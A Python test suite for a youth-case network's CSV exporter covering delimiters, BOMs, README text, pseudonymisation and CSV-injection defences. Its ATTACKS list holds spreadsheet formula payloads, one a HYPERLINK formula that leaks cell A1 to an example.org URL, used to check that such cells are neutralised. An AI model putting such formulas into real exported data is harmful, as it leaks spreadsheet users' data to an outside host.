import csv
import datetime as dt
import io
import zipfile
from collections.abc import Iterable, Sequence
from pathlib import Path
from typing import Any

import attrs
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from halt_adapters.export import DirectorySink, csvfiles
from halt_adapters.export.csvfiles import FORMULA_STARTS, CsvExporter, neutralised
from halt_core.errors import ExportFailed, HaltError, InvalidValue
from halt_core.export import TABLES, Cell, Column, Table, ZipSink, export
from halt_core.model import Meeting, Network, Partner, Referral
from halt_core.plugins import exporter
from halt_core.testing import strategies as hs

from .conftest import GENERATED_AT, without_free_text


def text(cell: Cell, *, neutral: bool = True) -> str:
    """How the CSV format promises to write a cell, written out independently."""
    if (
        isinstance(cell, str)
        and neutral
        and cell[:1]
        and cell[0] in "=+-@\t\r\uff1d\uff0b\uff0d\uff20"
    ):
        return "'" + cell  # a formula for a spreadsheet: neutralised, as OWASP advises
    if cell is None:
        return ""
    if isinstance(cell, bool):
        return "true" if cell else "false"
    if isinstance(cell, dt.datetime):
        fraction = f".{cell.microsecond:06d}" if cell.microsecond else ""
        return cell.strftime("%Y-%m-%dT%H:%M:%S") + fraction + _offset(cell)
    if isinstance(cell, dt.date):
        return f"{cell.year:04d}-{cell.month:02d}-{cell.day:02d}"
    return str(cell)


def _offset(moment: dt.datetime) -> str:
    offset = moment.utcoffset()
    assert offset is not None  # the model keeps every moment with its zone
    minutes = int(offset.total_seconds()) // 60
    sign = "-" if minutes < 0 else "+"
    return f"{sign}{abs(minutes) // 60:02d}:{abs(minutes) % 60:02d}"


def expected_rows(table: Table, records: Iterable[Any]) -> list[dict[str, str]]:
    return [dict(zip(table.header, map(text, table.row(r)), strict=True)) for r in records]


def read_zip(data: bytes, **reader: Any) -> dict[str, list[dict[str, str]]]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {
            name: list(
                csv.DictReader(io.StringIO(archive.read(name).decode(), newline=""), **reader)
            )
            for name in archive.namelist()
            if name.endswith(".csv")
        }


def zipped(source: Network | Iterable[Any], **options: Any) -> bytes:
    out = io.BytesIO()
    with ZipSink(out) as sink:
        export(source, sink, "csv", generated_at=GENERATED_AT, **options)
    return out.getvalue()


def included(network: Network, **options: Any) -> bytes:
    """Every record as stored: personal data included, free text kept."""
    return zipped(network, personal_data="include", purpose="test", free_text="keep", **options)


def test_the_csv_format_is_installed_for_every_table() -> None:
    found = exporter("csv")
    assert isinstance(found, CsvExporter)
    assert found.accepts == tuple(TABLES)
    assert (found.media_type, found.extension) == ("text/csv", ".csv")


def test_a_zip_holds_every_record_row_by_row(network: Network) -> None:
    tables = read_zip(included(network))
    assert list(tables) == [f"{table.name}.csv" for table in TABLES.values()]
    for table in TABLES.values():
        assert tables[f"{table.name}.csv"] == expected_rows(table, getattr(network, table.name))


def test_the_first_row_is_the_header_and_lines_end_in_crlf(network: Network) -> None:
    with zipfile.ZipFile(io.BytesIO(included(network))) as archive:
        data = archive.read("partners.csv")
    first, _, rest = data.partition(b"\r\n")
    assert first.decode().split(",") == list(TABLES[Partner].header)
    assert rest.endswith(b"\r\n")


def test_a_folder_gets_the_files_and_a_readme(network: Network, tmp_path: Path) -> None:
    report = export(
        network, DirectorySink(tmp_path), "csv", personal_data="omit", generated_at=GENERATED_AT
    )
    names = [f"{t.name}.csv" for t in TABLES.values() if t.type is not Referral]
    assert report.files == (*names, "README.txt")
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(report.files)
    for table in TABLES.values():
        if table.type is Referral:
            continue
        with (tmp_path / f"{table.name}.csv").open(encoding="utf-8", newline="") as f:
            rows = list(csv.DictReader(f))
        records = [without_free_text(r) for r in getattr(network, table.name)]
        if table.type is Meeting:  # omitting personal data takes the cases off agendas
            records = [attrs.evolve(m, cases=()) for m in records]
        assert rows == expected_rows(table, records)


def test_the_readme_says_when_what_and_what_was_done_with_personal_data(
    network: Network,
) -> None:
    with zipfile.ZipFile(io.BytesIO(zipped(network))) as archive:
        assert archive.namelist()[-1] == "README.txt"
        readme = archive.read("README.txt").decode()
    assert GENERATED_AT.isoformat() in readme
    assert f"interventions.csv: {len(network.interventions)} rows" in readme
    assert "personal data of youths is pseudonymised" in readme


def test_the_readme_names_the_purpose_when_youths_are_included(network: Network) -> None:
    with zipfile.ZipFile(io.BytesIO(included(network))) as archive:
        readme = archive.read("README.txt").decode()
    assert "included as stored, for the purpose: test" in readme


def test_youths_are_replaced_by_the_same_token_everywhere_by_default(network: Network) -> None:
    tables = read_zip(zipped(network))
    youth_columns = {"referrals": "youth", "meetings": "cases"}
    token_of: dict[str, str] = {}
    for name, column in youth_columns.items():
        table = next(t for t in TABLES.values() if t.name == name)
        rows = tables[f"{name}.csv"]
        expected = expected_rows(table, map(without_free_text, getattr(network, name)))
        replaced = {column, "id"} if name == "referrals" else {column}  # ids are tokens too
        for row, stored in zip(rows, expected, strict=True):
            assert {k: v for k, v in row.items() if k not in replaced} == {
                k: v for k, v in stored.items() if k not in replaced
            }
            for token, youth in zip(row[column].split(), stored[column].split(), strict=True):
                assert token.startswith("X-")
                assert token_of.setdefault(youth, token) == token
    assert len(set(token_of.values())) == len(token_of)  # different youths, different tokens


@pytest.mark.parametrize(("setting", "delimiter"), [(";", ";"), ("tab", "\t"), ("\t", "\t")])
def test_another_delimiter_reads_back(network: Network, setting: str, delimiter: str) -> None:
    tables = read_zip(included(network, settings={"delimiter": setting}), delimiter=delimiter)
    for table in TABLES.values():
        assert tables[f"{table.name}.csv"] == expected_rows(table, getattr(network, table.name))


def test_a_bom_starts_every_file_and_utf8_sig_reads_it(network: Network) -> None:
    data = included(network, settings={"bom": "true", "delimiter": ";"})
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for table in TABLES.values():
            content = archive.read(f"{table.name}.csv")
            assert content.startswith(b"\xef\xbb\xbf")
            assert not content[3:].startswith(b"\xef\xbb\xbf")
            rows = csv.DictReader(
                io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"
            )
            assert list(rows) == expected_rows(table, getattr(network, table.name))


def test_one_kind_fits_a_single_stream(network: Network) -> None:
    out = io.BytesIO()
    report = export(network, out, "csv", kinds=[Partner], generated_at=GENERATED_AT)
    assert report.files == ("partners.csv",)
    rows = list(csv.DictReader(io.StringIO(out.getvalue().decode(), newline="")))
    assert rows == expected_rows(TABLES[Partner], network.partners)


def test_several_kinds_in_a_single_stream_suggest_a_zip_or_a_folder(network: Network) -> None:
    with pytest.raises(ExportFailed, match=r"zip archive or a folder") as caught:
        export(network, io.BytesIO(), "csv", generated_at=GENERATED_AT)
    assert isinstance(caught.value, HaltError)


def test_a_kind_in_two_groups_is_refused(network: Network) -> None:
    records = [*network.partners[:2], *network.forums[:1], *network.partners[2:3]]
    with pytest.raises(ExportFailed, match=r"give the records of each kind together"):
        zipped(records)


@pytest.mark.parametrize(
    ("settings", "field", "value"),
    [
        ({"quote": "all"}, "settings", "quote"),
        ({"delimiter": "|"}, "delimiter", "|"),
        ({"bom": "maybe"}, "bom", "maybe"),
    ],
)
def test_bad_settings_are_refused_naming_the_setting(
    network: Network, settings: dict[str, str], field: str, value: str
) -> None:
    with pytest.raises(InvalidValue) as caught:
        zipped(network, settings=settings)
    assert (caught.value.field, caught.value.value) == (field, value)
    assert isinstance(caught.value, HaltError)


def test_an_unknown_setting_lists_the_known_ones(network: Network) -> None:
    with pytest.raises(InvalidValue, match=r"bom: .*delimiter: "):
        zipped(network, settings={"quoting": "all"})


TRICKY = st.lists(
    st.sampled_from(
        [",", ";", '"', "'", "\n", "\r", "\r\n", "\t", " ", "a", "é", "=", "+", "-", "@", "\uff1d"]
    )
).map("".join)


def _with_tricky_text(partner: Partner, name: str, notes: str) -> Partner:
    return attrs.evolve(partner, name=("x" + name)[:200], notes=notes)


@settings(max_examples=40, deadline=None)
@given(
    partners=st.lists(
        st.builds(_with_tricky_text, hs.partners(), TRICKY, TRICKY),
        max_size=4,
        unique_by=lambda p: p.id,
    ),
    delimiter=st.sampled_from([(",", ","), (";", ";"), ("tab", "\t")]),
    bom=st.booleans(),
)
def test_any_partners_read_back_to_the_same_cells(
    partners: Sequence[Partner], delimiter: tuple[str, str], bom: bool
) -> None:
    out = io.BytesIO()
    settings = {"delimiter": delimiter[0], "bom": bom}
    export(
        partners,
        out,
        "csv",
        settings=settings,
        generated_at=GENERATED_AT,
        personal_data="include",
        purpose="test",
        free_text="keep",
    )
    content = out.getvalue().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(content, newline=""), delimiter=delimiter[1]))
    table = TABLES[Partner]
    if not partners:
        assert rows == []  # no records, no file content
        return
    assert rows == [list(table.header), *([text(c) for c in table.row(p)] for p in partners)]


@settings(max_examples=15, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(hs.networks(max_records=3))
def test_any_network_reads_back_to_the_same_cells_in_every_table(network: Network) -> None:
    tables = read_zip(included(network))
    for table in TABLES.values():
        records = getattr(network, table.name)
        assert tables.get(f"{table.name}.csv", []) == expected_rows(table, records)


def test_several_kinds_to_one_stream_are_refused_before_anything_is_written(
    network: Network,
) -> None:
    out = io.BytesIO()
    with pytest.raises(ExportFailed, match=r"partners, collaborations.*zip archive or a folder"):
        export(network, out, "csv")
    assert out.getvalue() == b""


def test_a_kind_asked_for_without_records_gets_a_header_only_file() -> None:
    out = io.BytesIO()
    export(Network.empty(), out, "csv", kinds=[Partner])
    assert out.getvalue().decode().splitlines() == [",".join(TABLES[Partner].header)]


# -- formulas: CSV injection ------------------------------------------------------------------

ATTACKS = [
    '=HYPERLINK("http://example.org/?leak="&A1,"klik hier")',
    "=1+1",
    "+31 20 123 4567",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
]


def _partners_named(network: Network, names: Sequence[str]) -> list[Partner]:
    return [
        attrs.evolve(partner, name=name, notes=name)
        for partner, name in zip(network.partners, names, strict=False)
    ]


def test_text_that_a_spreadsheet_would_run_starts_with_an_apostrophe(network: Network) -> None:
    out = io.BytesIO()
    partners = _partners_named(network, ATTACKS)
    export(
        partners,
        out,
        "csv",
        generated_at=GENERATED_AT,
        personal_data="include",
        purpose="test",
        free_text="keep",
    )
    rows = list(csv.DictReader(io.StringIO(out.getvalue().decode(), newline="")))
    assert [row["name"] for row in rows] == ["'" + name for name in ATTACKS]
    assert [row["notes"] for row in rows] == ["'" + name for name in ATTACKS]
    assert rows[0]["id"] == str(partners[0].id)  # other cells as they are
    assert not any(row["name"][0] in FORMULA_STARTS for row in rows)


def test_machine_readers_can_have_every_cell_as_stored(network: Network) -> None:
    out = io.BytesIO()
    partners = _partners_named(network, ATTACKS)
    settings = {"neutralise_formulas": "false"}
    export(partners, out, "csv", generated_at=GENERATED_AT, settings=settings)
    rows = list(csv.DictReader(io.StringIO(out.getvalue().decode(), newline="")))
    assert [row["name"] for row in rows] == ATTACKS


def test_harmless_text_and_typed_cells_are_never_changed() -> None:
    assert neutralised("Politie Amsterdam") == "Politie Amsterdam"
    assert neutralised("") == ""
    assert neutralised(" =1") == " =1"
    assert neutralised("a=1") == "a=1"
    table = Table(
        "numbers",
        object,
        (
            Column("count", lambda r: -3),
            Column("day", lambda r: dt.date(2026, 9, 1)),
            Column("text", lambda r: "-3"),
        ),
    )
    out = io.BytesIO()
    csvfiles._write_table(out, table, [object()], ",")
    assert out.getvalue().decode().splitlines() == ["count,day,text", "-3,2026-09-01,'-3"]


def test_the_readme_says_how_formulas_were_written(network: Network) -> None:
    for setting, expected in (("true", "starts with an\napostrophe"), ("false", "as stored")):
        data = zipped(network, settings={"neutralise_formulas": setting})
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            assert expected in archive.read("README.txt").decode()


def test_a_bad_neutralise_setting_is_refused(network: Network) -> None:
    with pytest.raises(InvalidValue) as caught:
        zipped(network, settings={"neutralise_formulas": "sometimes"})
    assert (caught.value.field, caught.value.value) == ("neutralise_formulas", "sometimes")


def test_a_called_off_meeting_says_so_and_who_was_at_the_table(network: Network) -> None:
    from halt_core.lifecycle.meetings import cancel_meeting

    meeting = network.meetings[0]
    present = network.forum(meeting.forum).members[:2]
    meeting = attrs.evolve(meeting, attendees=present)
    at = dt.datetime(2026, 3, 2, 9, 0, tzinfo=dt.UTC)
    cancelled, _ = cancel_meeting(meeting, version=1, reason="Te weinig leden", by="t", at=at)
    changed = attrs.evolve(network, meetings=(cancelled, *network.meetings[1:]))
    kept = read_zip(included(changed))["meetings.csv"]
    row = next(r for r in kept if r["id"] == str(meeting.id))
    assert row["attendees"] == " ".join(str(p) for p in present)
    assert row["cancelled_on"] == "2026-03-02"
    assert row["cancellation_reason"] == "Te weinig leden"
    # The reason is typed text: left out by default, like every free text.
    default = read_zip(zipped(changed))["meetings.csv"]
    row = next(r for r in default if r["id"] == str(meeting.id))
    assert row["cancelled_on"] == "2026-03-02"
    assert row["cancellation_reason"] == ""  # not required, so left out as empty
    others = [r for r in kept if r["id"] != str(meeting.id)]
    assert all(r["cancelled_on"] == "" for r in others)
